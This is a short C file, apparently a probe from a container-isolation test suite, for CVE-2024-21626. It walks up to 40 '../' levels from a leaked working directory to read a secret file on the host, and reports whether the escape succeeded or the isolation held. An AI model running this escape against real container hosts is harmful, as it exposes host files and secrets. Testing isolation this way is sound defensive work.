/* SPDX-License-Identifier: MIT */
/* CVE-2024-21626: a working directory that is the host's leads to all of the host's files. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>

/* directory SECRET: a path on the host */
int attack_directory(char **argv)
{
    char path[1024] = "";
    for (int up = 0; up < 40; up++) {
        strcat(path, up ? "../" : "./");
        size_t length = strlen(path);
        strcat(path, argv[0] + 1);
        if (attack_print(AT_FDCWD, path) == 0)
            return ATTACK_OUT;
        path[length] = '\0';
    }
    return attack_held("read the host's file");
}
